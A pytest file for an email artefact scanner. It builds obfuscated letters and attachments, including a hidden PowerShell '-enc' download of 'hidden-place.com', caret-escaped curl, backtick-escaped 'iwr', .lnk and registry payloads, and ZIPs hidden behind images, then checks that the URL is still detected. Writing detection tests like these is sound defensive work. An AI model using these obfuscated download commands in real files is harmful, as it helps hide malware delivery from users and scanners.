"""What scripts, pages and shortcuts carry in other letters."""

from __future__ import annotations

import base64
import binascii
import re

import pytest
from fixtures.built_mail import artefacts, mail, mixed, part, report, source, zipped
from fixtures.small_cases import SMALL, lnk

from tqimap_processor.openers import open_artefact


URL = "http://hidden-place.com/p"
ZIP = zipped(("a.html", f"<a href={URL}>".encode()))
LETTERS = base64.b64encode(ZIP).decode()
PIECES = re.findall(".{1,40}", LETTERS)
WIDE = base64.b64encode(f"iwr {URL}".encode("utf-16-le")).decode()
PAGE = f"<html><a href={URL}>x".encode()


def _script(code: str) -> bytes:
    return mail(f"<html><script>{code}</script></html>".encode(), "text/html; charset=utf-8")


def _file(data: bytes, name: str) -> bytes:
    return mixed(part(data, "application/octet-stream", name=name))


CASES = {
    "base64": _script(f'new Blob([atob("{LETTERS}")])'),
    "base64 in pieces": _script("a=" + "+".join(f"'{one}'" for one in PIECES)),
    "base64 added up": _script("a='';" + "".join(f"a+='{one}';\n" for one in PIECES)),
    "base64 in a list": _script(f"a={PIECES}.join('');atob(a)"),
    "base64 over lines": _script("a=`" + "\n".join(PIECES) + "`"),
    "address in base64": _script(f"location=atob('{base64.b64encode(URL.encode()).decode()}')"),
    "hexadecimal": _script(f"a='{ZIP.hex()}'"),
    "bytes": _script(f"new Uint8Array({list(ZIP)})"),
    "codes": _script(f"eval(String.fromCharCode({','.join(str(one) for one in PAGE)}))"),
    "percent": _script(f"unescape('{''.join(f'%{one:02X}' for one in PAGE)}')"),
    "percent, wide": _script(f"unescape('{''.join(f'%u{one:04X}' for one in PAGE)}')"),
    "reversed": _script(f"a='{URL[::-1]}'.split('').reverse().join('')"),
    "list of pieces": _script("a=['ht','tp://hidden-pl','ace.com/p'].join('')"),
    "VBScript": _file(b'x = "ht" & "tp://hidden-place" & _\r\n ".com/p"', "a.vbs"),
    "Chr": _file("&".join(f"Chr({ord(one)})" for one in URL).encode(), "a.vbs"),
    "ChrW": _file("&".join(f"ChrW(&H{ord(one):X})" for one in URL).encode(), "a.vbs"),
    "carets": _file(b"c^u^r^l h^t^t^p^:^/^/hidden-pl^ace.com/p", "a.bat"),
    "ticks": _file(b"iwr h`t`tp://hidden-pl`ace.com/p", "a.ps1"),
    "PowerShell": _file(f"powershell -w hidden -enc {WIDE}".encode(), "a.bat"),
    "shortcut": _file(lnk("powershell.exe", f"-e {WIDE}"), "a.lnk"),
    "registry": _file(b'"a"=hex(2):' + URL.encode("utf-16-le").hex(",").encode(), "a.reg"),
    "file in base64": _file(base64.encodebytes(ZIP), "a.txt"),
    "ZIP behind an image": _file(SMALL["png"] + ZIP, "a.png"),
    "ZIP behind a shortcut": _file(lnk("a", "b") + ZIP, "a.lnk"),
    "ZIP before a ZIP": _file(ZIP + zipped(("b.txt", b"harmless")), "a.zip"),
    "yEnc": mail(
        b"see\r\n=ybegin line=128 size=%d name=a.html\r\n" % len(PAGE)
        + bytes((one + 42) % 256 for one in PAGE)
        + b"\r\n=yend size=1\r\n"
    ),
    "uuencode without an end": mail(b"see\n\nbegin 644 a.html\n" + binascii.b2a_uu(PAGE)),
    "base64 of uuencode": mail(
        b"see\n\nbegin-base64 644 a.zip\n" + base64.encodebytes(ZIP) + b"====\n"
    ),
    "back slashes": mail(b"<html><a href='http:\\\\hidden-place.com\\p'>", "text/html"),
    "one slash": mail(b"<html><a href='http:/hidden-place.com/p'>", "text/html"),
    "host in percents": mail(b"<html><a href='http://hidden%2Dplace%2Ecom/p'>", "text/html"),
}


@pytest.mark.parametrize("name", CASES)
def test_hidden_address_is_found(name: str) -> None:
    """However a file or an address is spelled, what is in it is found."""
    assert URL in {one.value for one in report(CASES[name]).decisions}


def test_data_url_is_one_child() -> None:
    """What a link carries is not found a second time as letters of the page."""
    link = f"<html><script></script><a href='data:application/zip;base64,{LETTERS}'>".encode()
    assert artefacts(mail(link, "text/html"))["1.1"] == "data-url zip data-1"
    assert "1.2" not in artefacts(mail(link, "text/html"))


def test_ordinary_text_reveals_nothing() -> None:
    """Words, numbers and code that hide nothing stay what they are."""
    text = b"print('a' + 'b'); x = [1, 2, 3]; 100% sure ^ `code` array base64 -enc and chr(13)"
    opened = open_artefact("text", source(text))
    assert (len(opened.spans), opened.children) == (1, ())


@pytest.mark.opens("activemime")
def test_part_that_office_saved_is_opened() -> None:
    """The macros of a document saved as a web page are packed in such a part."""
    opened = open_artefact("activemime", source(SMALL["activemime"]))
    assert [one.data for one in opened.children] == [b"http://some-place.com/"]
